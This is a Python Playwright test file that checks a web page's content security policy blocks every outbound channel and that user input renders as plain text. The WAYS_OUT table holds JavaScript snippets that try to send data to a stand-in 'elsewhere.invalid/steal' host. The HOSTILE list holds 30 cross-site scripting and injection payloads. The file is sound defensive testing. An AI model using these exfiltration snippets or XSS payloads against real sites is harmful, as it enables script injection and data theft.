"""The promise that nothing is sent: the page's own policy refuses every way out, and user text stays text."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import expect

ELSEWHERE = "https://elsewhere.invalid/steal"

WAYS_OUT = {
    "fetch": ("connect-src", f"fetch('{ELSEWHERE}?fetch').catch(() => 0)"),
    "XMLHttpRequest": (
        "connect-src",
        f"(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{ELSEWHERE}?xhr'); try {{ x.send() }} catch {{}} }})()",
    ),
    "beacon": ("connect-src", f"navigator.sendBeacon('{ELSEWHERE}?beacon', 'x')"),
    "WebSocket": (
        "connect-src",
        "(() => { try { new WebSocket('wss://elsewhere.invalid/steal') } catch {} })()",
    ),
    "EventSource": ("connect-src", f"new EventSource('{ELSEWHERE}?events')"),
    "image": ("img-src", f"(() => {{ new Image().src = '{ELSEWHERE}?image' }})()"),
    "style sheet": (
        "style-src-elem",
        "(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; "
        f"l.href = '{ELSEWHERE}?css'; document.head.append(l) }})()",
    ),
    "style attribute": (
        "style-src-attr",
        f"document.body.insertAdjacentHTML('beforeend', '<b style=\"background:url({ELSEWHERE}?attr)\">x</b>')",
    ),
    "form": (
        "form-action",
        f"(() => {{ const f = document.createElement('form'); f.action = '{ELSEWHERE}?form'; f.method = 'post'; "
        "document.body.append(f); f.submit() })()",
    ),
    "script": (
        "script-src-elem",
        f"(() => {{ const s = document.createElement('script'); s.src = '{ELSEWHERE}?js'; document.head.append(s) }})()",
    ),
    "frame": (
        "frame-src",
        f"(() => {{ const f = document.createElement('iframe'); f.src = '{ELSEWHERE}?frame'; document.body.append(f) }})()",
    ),
    "object": (
        "object-src",
        f"(() => {{ const o = document.createElement('object'); o.data = '{ELSEWHERE}?object'; document.body.append(o) }})()",
    ),
    "media": (
        "media-src",
        f"(() => {{ const a = new Audio('{ELSEWHERE}?audio'); a.play().catch(() => 0) }})()",
    ),
    "font": (
        "font-src",
        f"(() => {{ const f = new FontFace('x', 'url({ELSEWHERE}?font)'); f.load().catch(() => 0) }})()",
    ),
    "prefetch": (
        "default-src",
        "(() => { const l = document.createElement('link'); l.rel = 'prefetch'; "
        f"l.href = '{ELSEWHERE}?prefetch'; document.head.append(l) }})()",
    ),
    "module": ("script-src-elem", f"import('{ELSEWHERE}?module').catch(() => 0)"),
    "ping of a link": (
        "connect-src",
        f"(() => {{ const a = document.createElement('a'); a.href = '#'; a.ping = '{ELSEWHERE}?ping'; "
        "document.body.append(a); a.click(); a.remove() })()",
    ),
    "worker": (
        "worker-src",
        "(() => { try { new Worker(URL.createObjectURL(new Blob(['0'], {type: 'text/javascript'}))) } catch {} })()",
    ),
    "inline script": (
        "script-src-elem",
        "(() => { const s = document.createElement('script'); s.nonce = 'import-map'; "
        "s.textContent = 'window.ran = 1'; document.head.append(s) })()",
    ),
    "inline handler": (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<button id=h onclick=\"window.ran = 1\">x</button>') "
        "|| document.getElementById('h').click()",
    ),
}

HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload=window.ran=1>",
    '"><img src=x onerror=window.ran=1>',
    "'><img src=x onerror=window.ran=1>",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<!--<script>window.ran=1</script>-->",
    "<iframe src=javascript:window.ran=1></iframe>",
    "javascript:window.ran=1",
    "<a href='javascript:window.ran=1'>x</a>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<body onload=window.ran=1>",
    "<style>@import 'https://elsewhere.invalid/steal'</style>",
    "<link rel=stylesheet href=https://elsewhere.invalid/steal>",
    "<base href=https://elsewhere.invalid/>",
    "<form action=https://elsewhere.invalid/><button>x",
    "<object data=https://elsewhere.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/'>",
    "${window.ran=1}",
    "{{constructor.constructor('window.ran=1')()}}",
    "__import__('js').window.ran = 1",
    "%s%s%s%n",
    "\\u003cimg src=x onerror=window.ran=1\\u003e",
    "&lt;img src=x onerror=window.ran=1&gt;",
    "\u202e\u0000<img src=x onerror=window.ran=1>",
    "x" * 3000 + "<img src=x onerror=window.ran=1>",
]
assert len(HOSTILE) == 30
FIELDS = [
    *(
        "q",
        "k",
        "v",
        "text",
        "T",
        "scale-number",
        "causal-offset",
        "window",
        "softcap",
        "keep",
        "bias",
        "lengths",
    ),
    *("heads", "labels", "batch", "head", "observed", "d", "seed", "atol", "rtol"),
]


@pytest.fixture(scope="module", params=["site", "file"])
def place(request: pytest.FixtureRequest, browser: object, site: str, dist: object) -> Iterator[object]:
    """A started page, served and from disk, that records what its policy refuses."""
    from conftest import Lab, new_context  # type: ignore[import-not-found]

    context = new_context(browser)
    address = site if request.param == "site" else (dist / "attention-lab.html").as_uri()  # type: ignore[operator]
    lab = Lab(context.new_page(), address).start()
    lab.page.evaluate(
        "() => { window.refused = []; document.addEventListener('securitypolicyviolation', "
        "(e) => window.refused.push([e.effectiveDirective, e.blockedURI])) }"
    )
    yield lab
    context.close()


@pytest.mark.parametrize("way", sorted(WAYS_OUT))
def test_the_policy_refuses_every_way_out(place, way: str, figures: list[str]) -> None:
    directive, code = WAYS_OUT[way]
    place.watch.clear()
    place.page.evaluate("window.refused.length = 0; window.ran = 0")
    place.page.evaluate(f"() => {{ {code} }}")
    place.page.wait_for_function("window.refused.length > 0", timeout=10_000)
    refused = place.page.evaluate("window.refused")
    assert directive in [name for name, _ in refused], refused
    assert place.page.evaluate("window.ran") == 0
    assert place.page.url.split("#")[0] == place.address, "the page itself stayed where it is"
    where = "single file" if place.address.startswith("file:") else "site"
    figures.append(f"refused by {directive}: {way} ({where})")


def check_untouched(lab) -> None:
    page = lab.page
    assert page.evaluate("window.ran === undefined")
    strange = "img, iframe, object, base, body > form, #results script, #results style, #results link, [onerror], [onload]"
    assert page.locator(strange).count() == 0
    assert lab.watch.foreign() == []


@pytest.mark.parametrize("name", ["calculator", "walkthrough", "heatmap", "check"])
def test_hostile_text_in_every_field_stays_text(lab, name: str, figures: list[str]) -> None:
    page = lab.page
    lab.open(f"lab={name}")
    for text in HOSTILE:
        page.evaluate(
            """([fields, text]) => { const form = document.getElementById("lab-form");
            for (const name of fields) { const field = form.elements[name]; if (!field) continue;
                field.value = text; field.dispatchEvent(new Event("input", {bubbles: true})); } }""",
            [FIELDS, text],
        )
        page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
        check_untouched(lab)
    figures.append(f"hostile strings: {len(HOSTILE)} in each of {len(FIELDS)} fields, {name}")


def test_hostile_text_in_every_fragment_key_stays_text(lab, figures: list[str]) -> None:
    from urllib.parse import quote

    keys = [
        *(
            "lab",
            "example",
            "q",
            "text",
            "d",
            "scale",
            "T",
            "causal",
            "positions",
            "softcap",
            "window",
            "empty",
        ),
        *("precision", "keep", "bias", "lengths", "heads", "framework", "labels", "row", "step", "decimals"),
        *("observed", "stage", "compare", "predict", "embed", "hide", "z", "unknown", "<b>key</b>"),
    ]
    for index, text in enumerate(HOSTILE):
        value = quote(text[:400])
        lab.open("&".join(f"{quote(key)}={value}" for key in keys))
        lab.open(f"lab=heatmap&text={value}&row=0")
        lab.open(f"lab=calculator&example=identity&labels={value},{value}&{quote(keys[index])}={value}")
        check_untouched(lab)
    figures.append(f"hostile strings: {len(HOSTILE)} in each of {len(keys)} fragment keys")


def test_hostile_file_and_array_names_stay_text(lab, figures: list[str]) -> None:
    page = lab.page
    lab.open("lab=check")
    for text in HOSTILE:
        content = json.dumps({text: [[1, 2], [3, 4]], "q": [[1, 0], [0, 1]]}).encode()
        page.set_input_files(
            "#files", [{"name": f"{text[:80]}.json", "mimeType": "application/json", "buffer": content}]
        )
        page.wait_for_function(
            "!document.getElementById('files-found').hidden || document.querySelector('[data-error-for=files]').textContent"
        )
        check_untouched(lab)
    figures.append(f"hostile strings: {len(HOSTILE)} as file and array names")


def test_a_heatmap_of_markup_shows_the_markup(lab) -> None:
    lab.open("lab=heatmap&text=%3Cimg%20src%3Dx%3E%20%3Cb%3Ebold%3C%2Fb%3E")
    expect(lab.page.locator('[data-lab-panel="heatmap"]')).to_contain_text("img")
    assert lab.page.locator('[data-lab-panel="heatmap"] b').count() == 0


def test_nothing_is_stored_but_the_theme(fresh_page: Callable, site: str) -> None:
    page = fresh_page(site).start("q=1,2&k=1,2&v=3")
    page.page.click("#theme")
    assert page.page.evaluate("Object.keys(localStorage)") == ["attention-lab-theme"]
    assert page.page.evaluate("document.cookie") == ""
